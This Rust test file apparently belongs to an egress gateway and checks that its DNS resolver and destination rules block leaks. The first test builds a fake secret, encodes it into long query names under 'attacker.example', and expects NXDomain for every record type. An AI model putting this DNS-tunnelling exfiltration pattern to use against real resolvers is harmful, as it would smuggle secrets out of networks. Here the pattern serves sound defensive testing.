//! Names as a way out: secrets in questions, keys in answers, names that borrow an address.

use hickory_proto::op::ResponseCode;
use hickory_proto::rr::RecordType;

use super::denials;
use crate::support::dns::address;
use crate::support::{Ending, Pki, Setup, Upstream};

const POOL: &str = "198.18.0.0/15";

/// A6: a question is answered here, so that a secret that is spelt out in its name is heard by nobody.
#[test]
fn a_secret_in_a_question_reaches_nobody() {
    let upstreams = Pki::new("Upstream Test CA");
    let upstream = Upstream::tls(&upstreams, &["api.example.com"]);
    let gateway = Setup::new(&upstreams)
        .resolver(POOL)
        .host("api.example.com", upstream.address())
        .destinations(&["{name: wide, hosts: [\"**.example.com\"], action: Inspect}"])
        .start();
    let resolver = gateway.resolver();
    let secret = format!("{0}.{0}.{0}", "c2vjcmv0".repeat(7));

    use RecordType::{A, AAAA, CNAME, MX, NULL, SRV, TXT};
    for kind in [A, AAAA, CNAME, MX, NULL, SRV, TXT] {
        let outside = resolver.ask(&format!("{secret}.attacker.example"), kind);
        assert_eq!(outside.response_code, ResponseCode::NXDomain, "{kind}");
        let inside = resolver.ask(&format!("{secret}.example.com"), kind);
        assert_eq!((inside.response_code, address(&inside).is_some()), (ResponseCode::NoError, kind == A));
    }
    assert!(upstream.links().is_empty());

    let twin = resolver.address("api.example.com");
    let agent = gateway.agent();
    let mut connection = agent.dial("api.example.com").authority(&format!("{twin}:443")).open().unwrap();
    connection.send("GET /echo HTTP/1.1\r\nHost: api.example.com\r\n\r\n");
    assert_eq!(connection.read_answer().status, 200);
}

/// B5: without HTTPS and SVCB records a client has no keys to hide a name with.
#[test]
fn no_record_brings_keys_for_a_hidden_name() {
    let gateway = Setup::new(&Pki::new("Upstream Test CA"))
        .resolver(POOL)
        .destinations(&[
            "{name: look, hosts: [look.example.com], action: Inspect}",
            "{name: pass, hosts: [pass.example.com], action: Tunnel}",
            "{name: open, hosts: [open.example.com], action: Tunnel, allowEch: true}",
        ])
        .start();
    let resolver = gateway.resolver();
    for name in ["look.example.com", "pass.example.com", "open.example.com"] {
        for kind in [RecordType::HTTPS, RecordType::SVCB] {
            let answer = resolver.ask(name, kind);
            assert_eq!(answer.response_code, ResponseCode::NoError);
            assert!(answer.answers.is_empty() && answer.additionals.is_empty(), "{answer}");
        }
        assert!(resolver.address(name).is_ipv4(), "and the twin, its address, is there");
    }
}

/// B19: a name satisfies no rule about addresses, neither by where it was dialled nor by where it would lead.
#[test]
fn a_name_that_no_rule_names_satisfies_no_address_rule() {
    let upstreams = Pki::new("Upstream Test CA");
    let upstream = Upstream::tls(&upstreams, &["evil.example.org"]);
    let at = upstream.address();
    let net = format!("{{name: net, cidrs: [127.0.0.0/8], ports: [{}], action: Tunnel}}", at.port());
    let api = format!("{{name: api, hosts: [api.example.com], ports: [{}], action: Inspect}}", at.port());
    let gateway = Setup::new(&upstreams)
        .resolver(POOL)
        .host("evil.example.org", at)
        .destinations(&[&net, &api])
        .start();
    let agent = gateway.agent().trusting(upstreams.roots());

    assert!(agent.dial("evil.example.org").authority(&at.to_string()).open().is_err());
    let refused = agent.connect(&format!("evil.example.org:{}", at.port())).err().unwrap();
    refused.assert_refused(403, "postern/builtin/default-deny");
    assert_eq!(gateway.resolver().code("c2vjcmv0.evil.example.org"), ResponseCode::NXDomain);
    assert!(denials(&gateway, 3).iter().all(|(host, rule)| {
        host.ends_with("evil.example.org") && rule == "postern/builtin/default-deny"
    }));
    assert!(upstream.links().is_empty());

    // The twin: the same address without a name.
    let mut bare = agent.connect(&at.to_string()).unwrap();
    bare.send("SSH-2.0-OpenSSH_9.9\r\n");
    assert!(matches!(bare.ending(), Ending::Closed(_) | Ending::Cut(_)));
    gateway.wait_for("Connection", "Allow");
}
